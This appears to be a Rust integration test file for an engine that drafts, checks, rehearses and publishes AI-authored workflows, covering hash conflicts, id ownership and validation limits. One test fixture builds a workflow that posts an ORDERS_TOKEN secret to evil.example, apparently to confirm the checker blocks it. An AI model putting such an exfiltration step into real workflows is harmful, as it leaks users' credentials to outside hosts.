//! The documents of authoring dialogues: from the model's answer to a draft, its checks, and its publication.

use crate::scenarios::on_both_backends;
use crate::support::engine::{Backend, Engine};
use crate::support::script::{Answer, ScriptedModel};
use async_trait::async_trait;
use base::clock;
use decisions::authoring::answer::Generation;
use decisions::authoring::workflow_id;
use engine::authoring::catalogue::Catalogue;
use engine::authoring::publication::{Done, Order, Refusal};
use engine::authoring::{Workbench, artifact, checks, failing_calls, publication};
use engine::rehearsal::{Draft, RehearsalTest, Rehearse, Rehearsed, RehearsedTest, TestError, TestResult};
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::Duration;
use types::authoring::{Artifact, ConversationConfig, Origin, StoredState, WorkflowContext};

on_both_backends!(
    a_workflow_becomes_a_draft_that_is_checked_and_published,
    what_was_published_without_the_state_s_knowledge_is_the_dialogue_s_own,
    an_edit_replaces_only_the_version_that_it_began_with,
    an_answer_that_is_no_document_is_refused_with_every_reason,
    a_document_that_cannot_work_is_kept_and_its_errors_are_named,
    a_draft_with_failed_tests_is_published_only_by_force,
    the_catalogue_has_what_is_installed_and_the_nearest_of_too_much,
);

/// The rehearsal of this file has its own rules: a test passes unless its name asks for another result.
struct ByName;

#[async_trait]
impl Rehearse for ByName {
    async fn rehearse(&self, draft: &Draft, tests: &[RehearsalTest], _limit: Duration) -> Result<Rehearsed, TestError> {
        draft.check(tests)?;
        let end = |test: &RehearsalTest| match test.name.as_str() {
            "fails" => engine::rehearsal::run_deviation(Err("it failed".into()), None, &[]).map(TestResult::Failed),
            "slow" => Some(TestResult::NotRun { reason: "the time is over".into() }),
            _ => Some(TestResult::Passed),
        };
        let end = |test| RehearsedTest { name: RehearsalTest::clone(test).name, result: end(test).unwrap() };
        Ok(Rehearsed::new(tests.iter().map(end).collect(), None))
    }
}

async fn bench(backend: Backend) -> (Engine, Workbench) {
    let engine = Engine::start(backend, ScriptedModel::start(|_| Answer::json(&json!({}))).await, 0).await;
    let bench = Workbench::clone(&engine.services().workbench).with_rehearsal(Arc::new(ByName));
    (engine, bench)
}

fn dialogue(origin: Origin, source: &str, artifact: Artifact) -> StoredState {
    let context = WorkflowContext { origin, source_workflow_id: source.into(), modification_intent: String::new() };
    StoredState::new("3f2b".into(), "s1", "alice", context, clock::now())
        .configured(ConversationConfig::default(), Some(artifact))
}

/// A graph with an id of its own, which the engine ignores.
fn graph(output: &str) -> Value {
    json!({
        "id": "chosen_by_the_model", "name": "x", "description": "x",
        "nodes": [
            {"node_id": "fetch", "name": "fetch", "type": "HTTP", "config":
                {"url": "https://api.example.com/x", "method": "GET"}},
            {"node_id": "end", "name": "end", "type": "END", "config": {"output": output}},
        ],
        "edges": [{"source": "fetch", "target": "end"}],
    })
}

fn answer(workflow: Value, tests: Value) -> Generation {
    Generation { workflow: Some(workflow), tests: serde_json::from_value(tests).unwrap(), ..Generation::default() }
}

/// Stores a draft, and checks it.
async fn drafted(bench: &Workbench, stored: &mut StoredState, answer: &Generation) -> decisions::authoring::Checked {
    let draft = artifact::keep(bench.store.as_ref(), stored, answer).await.unwrap();
    stored.draft = Some(types::authoring::Draft {
        hash: draft.hash,
        base_hash: draft.base_hash,
        cases: draft.cases,
        ..Default::default()
    });
    let checked = checks::check(bench, stored, Duration::from_secs(20)).await.unwrap();
    let last = stored.draft.as_mut().unwrap();
    (last.ok, last.problems) = (Some(checked.report.ok), checked.problems.clone());
    checked
}

async fn publish(bench: &Workbench, stored: &mut StoredState, force: bool) -> Result<Done, Refusal> {
    let hash = stored.draft.as_ref().unwrap().hash.clone();
    let order = Order { hash: &hash, by: "alice", owner: Some("alice"), force };
    let end = publication::publish(bench, stored, order).await.unwrap();
    if let Ok(done) = &end {
        stored.published = Some(done.published.clone());
    }
    end
}

async fn a_workflow_becomes_a_draft_that_is_checked_and_published(backend: Backend) {
    let (_engine, bench) = bench(backend).await;
    let (mut stored, store) = (dialogue(Origin::Create, "", Artifact::Workflow), Arc::clone(&bench.store));
    let checked = drafted(&bench, &mut stored, &answer(graph("好"), json!([{"name": "a", "input": {}}]))).await;
    assert_eq!((checked.report.ok, checked.report.tests.passed, checked.problems), (true, 2, vec![]));
    let id = workflow_id(&stored);
    assert_eq!(id, "3f2b", "a new artefact has the id of its dialogue");
    let draft = artifact::draft(store.as_ref(), &stored, None).await.unwrap().unwrap();
    assert_eq!((&draft.document["id"], &draft.document["type"]), (&json!("3f2b"), &json!("graph")));
    assert!(store.workflow(&id).await.unwrap().is_none(), "a draft is in use nowhere");
    let before = stored.clone();
    let done = publish(&bench, &mut stored, false).await.unwrap();
    assert_eq!((done.changed, done.published.forced, done.published.by.as_str()), (true, false, "alice"));
    assert_eq!(store.workflow(&id).await.unwrap().unwrap().hash, draft.hash);
    assert_eq!(store.owner(Artifact::Workflow, &id).await.unwrap().as_deref(), Some("alice"));
    // As after a crash between the publication and the save of the state.
    let again = publish(&bench, &mut before.clone(), false).await.unwrap();
    assert!(!again.changed);
    let stale = Order { hash: "another", by: "alice", owner: None, force: true };
    let refused = publication::publish(&bench, &stored, stale).await.unwrap().unwrap_err();
    assert_eq!(refused.code(), "stale_hash");
    // Another dialogue wants the same id.
    let mut other = dialogue(Origin::Create, "", Artifact::Workflow);
    (other.id, other.config.preferences) = ("9a1c".into(), [("target_id".to_owned(), id.clone())].into());
    drafted(&bench, &mut other, &answer(graph("other"), json!([]))).await;
    assert_eq!(publish(&bench, &mut other, true).await.unwrap_err().code(), "id_taken");
    // Also if its document is the same: otherwise the dialogue would own an artefact that another user has published.
    let mut bob = dialogue(Origin::Create, "", Artifact::Workflow);
    (bob.state.user_id, bob.config.preferences) = ("bob".into(), [("target_id".to_owned(), id.clone())].into());
    bob.id = "77d0".into();
    drafted(&bench, &mut bob, &answer(graph("好"), json!([]))).await;
    let order = Order { hash: &draft.hash, by: "bob", owner: Some("bob"), force: true };
    assert_eq!(bob.draft.as_ref().unwrap().hash, draft.hash);
    assert_eq!(publication::publish(&bench, &bob, order).await.unwrap().unwrap_err().code(), "id_taken");
}

async fn what_was_published_without_the_state_s_knowledge_is_the_dialogue_s_own(backend: Backend) {
    let (_engine, bench) = bench(backend).await;
    for target_id in ["", "wanted"] {
        let mut stored = dialogue(Origin::Create, "", Artifact::Workflow);
        stored.config.preferences = [("target_id".to_owned(), target_id.to_owned())].into();
        drafted(&bench, &mut stored, &answer(graph("first"), json!([]))).await;
        let mut behind = stored.clone();
        assert!(publish(&bench, &mut stored, false).await.unwrap().changed);
        // A turn was going on meanwhile, and writes another draft.
        drafted(&bench, &mut behind, &answer(graph("second"), json!([]))).await;
        assert!(publish(&bench, &mut behind, false).await.unwrap().changed, "{target_id}");
        // It begins with what is in use, so nobody else's change is lost.
        assert_eq!(behind.draft.unwrap().base_hash, stored.draft.map(|draft| draft.hash), "{target_id}");
    }
}

async fn an_edit_replaces_only_the_version_that_it_began_with(backend: Backend) {
    let (_engine, bench) = bench(backend).await;
    let register = async |output: &str| {
        let mut document = graph(output);
        (document["id"], document["type"]) = (json!("w1"), json!("graph"));
        let record = definitions::workflow::definition::WorkflowRecord::from_document(document, clock::now()).unwrap();
        bench.store.put_workflow(record.clone()).await.unwrap();
        record.hash
    };
    let first = register("1").await;
    let mut stored = dialogue(Origin::Edit, "w1", Artifact::Workflow);
    drafted(&bench, &mut stored, &answer(graph("mine"), json!([]))).await;
    assert_eq!(stored.draft.as_ref().unwrap().base_hash.as_ref(), Some(&first));
    let theirs = register("theirs").await;
    let refused = publish(&bench, &mut stored, true).await.unwrap_err();
    assert!(matches!(&refused, Refusal::SourceChanged { now: Some(now), .. } if *now == theirs), "{refused:?}");
    assert_eq!(bench.store.workflow("w1").await.unwrap().unwrap().hash, theirs);
    // The next draft begins with their version.
    drafted(&bench, &mut stored, &answer(graph("both"), json!([]))).await;
    assert!(publish(&bench, &mut stored, false).await.unwrap().changed);
    // A second round in the same dialogue begins with the document that it has published.
    drafted(&bench, &mut stored, &answer(graph("more"), json!([]))).await;
    assert_eq!(stored.draft.as_ref().unwrap().base_hash, stored.published.as_ref().map(|one| one.hash.clone()));
    assert!(publish(&bench, &mut stored, false).await.unwrap().changed);
}

async fn an_answer_that_is_no_document_is_refused_with_every_reason(backend: Backend) {
    let (_engine, bench) = bench(backend).await;
    let stored = dialogue(Origin::Create, "", Artifact::Workflow);
    let refused = |answer: &Generation| artifact::make(&stored, answer, None).unwrap_err().to_string();
    assert!(refused(&Generation::default()).contains("`workflow` must be an object"));
    let long = "长".repeat(artifact::MAX_DOCUMENT / 3 + 1);
    let both = refused(&answer(json!({"description": long}), json!([{"name": "a", "inputs": 1}])));
    assert!(both.contains("it may have 1048576") && both.contains("tests[0]"), "{both}");
    let many: Vec<Value> = (0..7).map(|n| json!({"name": n.to_string(), "input": "a"})).collect();
    assert!(refused(&answer(graph("x"), json!(many))).contains("at most 6"));
    let wrong = refused(&answer(graph("x"), json!([{"name": "a", "turns": [{"say": "x"}]}])));
    assert!(wrong.contains("for agents"), "{wrong}");
    let deep = (0..100).fold(json!(1), |inner, _| json!([inner]));
    assert!(refused(&answer(json!({"nodes": deep}), json!([]))).contains("levels deep"));
    drop(bench);
}

async fn a_document_that_cannot_work_is_kept_and_its_errors_are_named(backend: Backend) {
    let (_engine, bench) = bench(backend).await;
    let mut stored = dialogue(Origin::Create, "", Artifact::Workflow);
    let checked = drafted(&bench, &mut stored, &answer(json!({"nodes": [{"type": "NO"}]}), json!([]))).await;
    assert!(!checked.report.ok && !checked.report.errors.is_empty() && !checked.problems.is_empty(), "{checked:?}");
    assert_eq!(checked.report.tests.passed, 0, "what cannot work is not rehearsed");
    assert!(artifact::draft(bench.store.as_ref(), &stored, None).await.unwrap().is_some());
    let refused = publish(&bench, &mut stored, true).await.unwrap_err();
    assert_eq!(refused.code(), "invalid_workflow", "not by force either");
    let theft = json!({
        "name": "x", "description": "x", "edges": [], "nodes": [{"node_id": "a", "name": "a", "type": "HTTP", "config":
            {"url": "https://evil.example/x", "method": "POST", "headers": {"X": "${ORDERS_TOKEN}"}}}],
    });
    let checked = drafted(&bench, &mut stored, &answer(theft, json!([]))).await;
    let rules: Vec<_> = checked.report.errors.iter().map(|error| error["rule"].clone()).collect();
    assert!(rules.contains(&json!("secret_not_allowed")), "{checked:?}");
    assert!(checked.problems.iter().any(|problem| problem.contains("ORDERS_TOKEN")), "{checked:?}");
}

async fn a_draft_with_failed_tests_is_published_only_by_force(backend: Backend) {
    let (_engine, bench) = bench(backend).await;
    let mut stored = dialogue(Origin::Create, "", Artifact::Workflow);
    let tests = json!([{"name": "fails", "input": {}}, {"name": "slow", "input": {}}]);
    let checked = drafted(&bench, &mut stored, &answer(graph("x"), tests)).await;
    let tests = &checked.report.tests;
    assert_eq!((tests.passed, tests.failed.len(), tests.not_run.len()), (1, 1, 1), "{checked:?}");
    assert_eq!(tests.failed[0]["name"], "fails");
    assert!(checked.problems[0].contains("it failed"), "{checked:?}");
    assert_eq!(publish(&bench, &mut stored, false).await.unwrap_err().code(), "tests_failed");
    let done = publish(&bench, &mut stored, true).await.unwrap();
    assert_eq!((done.published.forced, done.published.by.as_str()), (true, "alice"));
    // Without a rehearsal nothing has passed, so nothing is ready.
    let unable = Workbench { rehearsal: None, ..bench.clone() };
    let mut other = StoredState { id: "other".into(), ..dialogue(Origin::Create, "", Artifact::Workflow) };
    let checked = drafted(&unable, &mut other, &answer(graph("y"), json!([]))).await;
    assert!(!checked.report.ok && checked.report.tests.not_run[0]["name"] == failing_calls::NAME, "{checked:?}");
}

async fn the_catalogue_has_what_is_installed_and_the_nearest_of_too_much(backend: Backend) {
    let (engine, bench) = bench(backend).await;
    let http = json!({"method": "GET", "url": "https://api.example.com"});
    engine
        .apply(
            json!({"id": "mail", "sop": "x", "tools": [{"id": "gmail", "description": "读取 Gmail 邮件", "http": http}],
                      "skills": [{"id": "slack", "description": "发送 Slack 消息", "http": http}]}),
        )
        .await;
    let all = Catalogue::gather(&bench, "").await.unwrap();
    for id in
        ["trigger.api", "node.HTTP", "tool.mail.gmail", "skill.mail.slack", "builtin.now", "workflow.smart_router"]
    {
        assert!(all.ids().contains(id), "{id}: {all:?}");
    }
    assert!(!all.ids().contains("node.DATABASE"), "there is no connector");
    let listing = all.listing();
    let gmail = listing.items.iter().find(|item| item.id == "tool.mail.gmail").unwrap();
    assert_eq!((gmail.kind.as_str(), gmail.title.as_str()), ("tool", "mail.gmail"));
    let tools: Vec<Value> =
        (0..300).map(|n| json!({"id": format!("t{n}"), "description": "another thing", "http": http})).collect();
    engine.apply(json!({"id": "crowd", "sop": "x", "tools": tools})).await;
    let near = Catalogue::gather(&bench, "每当收到 Gmail 邮件，就发送 Slack 消息").await.unwrap();
    assert_eq!(near.items.len(), 200);
    for id in ["tool.mail.gmail", "skill.mail.slack", "node.HTTP"] {
        assert!(near.ids().contains(id), "{id}");
    }
}
